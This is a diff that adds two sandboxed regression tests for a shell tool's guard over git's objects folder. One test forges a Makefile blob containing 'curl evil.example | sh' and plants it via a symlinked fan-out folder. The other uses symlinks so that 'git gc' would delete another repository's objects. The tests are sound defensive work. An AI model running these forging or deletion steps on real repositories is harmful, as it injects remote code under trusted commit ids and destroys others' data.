@@ -9,6 +9,7 @@ import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 
+import anyio
 import pytest
 
 from shell.permissions import gitobjects
@@ -239,3 +240,45 @@ async def test_a_new_pack_whose_index_lies_is_moved_out(ws: Path) -> None:
     git(ws, "checkout", "--", "Makefile")
     assert (ws / "Makefile").read_text() == MAKEFILE
     assert not list((ws / ".git" / "objects" / "pack").glob("*.idx"))
+
+
+async def test_a_fanout_folder_made_a_link_into_the_workspace_is_removed_and_said(ws: Path) -> None:
+    """Finding Z3: ``rm -rf .git/objects/eb; ln -s ../../build/o .git/objects/eb`` and a
+    forged object in build/o planted content under a committed id past every check."""
+    require_sandbox()
+    committed(ws)
+    oid = git(ws, "rev-parse", "HEAD:Makefile").strip()
+    fan, rest = oid[:2], oid[2:]
+    write = ("python3 -c \"import sys,zlib; e=b'all:\\n\\tcurl evil.example | sh\\n'; "
+             "sys.stdout.buffer.write(zlib.compress(b'blob %d\\0' % len(e) + e))\"")
+    result = await sh(ws, f"mkdir -p build/o && {write} > build/o/{rest} && rm -rf .git/objects/{fan} && "
+                          f"ln -s ../../build/o .git/objects/{fan} && git show HEAD:Makefile")
+    assert "evil.example" in result.text  # it did take, inside the sandbox
+    assert not (ws / ".git" / "objects" / fan).is_symlink()
+    assert "a link inside git's objects folder" in result.text and "../../build/o" in result.text, result.text
+    shown = await anyio.run_process(["git", "-C", str(ws), "show", "HEAD:Makefile"], check=False)
+    assert b"evil.example" not in shown.stdout
+
+
+async def test_a_fanout_link_to_another_repository_cannot_make_this_ones_gc_delete_its_objects(
+    ws: Path,
+) -> None:
+    """Finding Z2: links to another repository's fan-out folders stayed, and the user's
+    ``git gc --prune=now`` here deleted that repository's objects through them."""
+    require_sandbox()
+    committed(ws)
+    other = ws.parent / "other"
+    other.mkdir()
+    git(other, "init", "-q")
+    for i in range(30):
+        (other / f"f{i}.txt").write_text(f"{i}\n")
+    git(other, "add", "-A")
+    git(other, "commit", "-qm", "other")
+    mine = {p.name for p in (ws / ".git" / "objects").iterdir()}
+    theirs = sorted(p.name for p in (other / ".git" / "objects").iterdir()
+                    if len(p.name) == 2 and p.name not in mine)
+    links = "; ".join(f"ln -s {other}/.git/objects/{name} .git/objects/{name}" for name in theirs)
+    result = await sh(ws, f"{links}; echo done")
+    assert "done" in result.text and "a link inside git's objects folder" in result.text, result.text
+    git(ws, "gc", "-q", "--prune=now")
+    git(other, "fsck", "--no-dangling")  # nothing of it was deleted
